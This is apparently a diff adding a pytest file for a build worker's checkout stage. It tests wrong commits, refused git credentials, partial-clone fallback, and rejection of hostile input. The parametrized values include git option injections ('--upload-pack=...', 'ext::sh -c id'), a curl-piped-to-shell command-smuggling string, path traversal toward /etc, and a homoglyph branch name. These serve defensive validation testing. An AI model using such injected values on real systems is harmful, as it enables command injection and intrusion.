@@ -1,0 +1,77 @@
+"""The request and the checkout: hostile values, wrong commits, refused credentials, partial clones."""
+
+from __future__ import annotations
+
+import pytest
+
+from tests.support.worker import Worker
+
+
+@pytest.mark.parametrize("commit", ["0123456789" * 4, "f" * 40])
+def test_commit_outside_the_branch_is_not_built(worker: Worker, commit: str) -> None:
+    finished = worker.run(COMMIT_SHA=commit)
+
+    assert (finished.exit_code, finished.outcome) == (1, "CheckoutFailed")
+    assert commit in finished.exports["OUTCOME_REASON"]
+
+
+def test_commit_of_another_branch_is_not_built(worker: Worker) -> None:
+    worker.repository.git.commit("feature/other", {"other.txt": "1\n"}, "Other", base="main")
+
+    finished = worker.run(COMMIT_SHA=worker.repository.git.head_of("feature/other") or "")
+
+    assert finished.outcome == "CheckoutFailed"
+    assert "is not on feature/discounts any more" in finished.exports["OUTCOME_REASON"]
+
+
+def test_refused_credentials_fail_the_checkout(worker: Worker) -> None:
+    worker.client("secretsmanager").put_secret_value(
+        SecretId=worker.secrets["git-credentials"], SecretString='{"username":"git","password":"wrong-password"}'
+    )
+
+    finished = worker.run()
+
+    assert finished.outcome == "CheckoutFailed"
+    assert "git credentials" in finished.exports["OUTCOME_REASON"]
+    assert "wrong-password" not in finished.log
+
+
+@pytest.mark.parametrize(
+    ("variable", "value"),
+    [
+        ("BRANCH_NAME", "--upload-pack=touch /tmp/owned"),
+        ("BRANCH_NAME", "x;curl${IFS}h|sh"),
+        ("BRANCH_NAME", "-f"),
+        ("BRANCH_NAME", "../../x"),
+        ("BRANCH_NAME", "feature/dіscounts"),  # noqa: RUF001  # a Cyrillic letter, on purpose
+        ("COMMIT_SHA", "HEAD"),
+        ("COMMIT_SHA", "--output=x"),
+        ("REPOSITORY", "acme/../other"),
+        ("REPOSITORY", "ext::sh -c id/x"),
+        ("SPEC_PATH", ".kiro/../../etc"),
+        ("SPEC_PATH", "/etc"),
+        ("LOCK_FENCE", "1e9"),
+    ],
+)
+def test_hostile_variable_is_refused_by_name(worker: Worker, variable: str, value: str) -> None:
+    finished = worker.run(**{variable: value})
+
+    assert (finished.exit_code, finished.outcome) == (1, "WorkerFailed")
+    assert finished.exports["OUTCOME_REASON"].startswith(f"WorkItemInvalid: {variable}")
+    assert not worker.github.requests.git()
+
+
+def test_server_without_partial_clones_gets_a_full_one(worker: Worker) -> None:
+    worker.repository.git.run("config", "uploadpack.allowFilter", "false")
+
+    finished = worker.run()
+
+    assert finished.outcome == "Succeeded", finished.log
+
+
+def test_broken_partial_clone_is_followed_by_a_full_one(worker: Worker) -> None:
+    worker.github.faults.add("forbidden", "git-upload-pack")
+
+    finished = worker.run()
+
+    assert finished.outcome == "Succeeded", finished.log
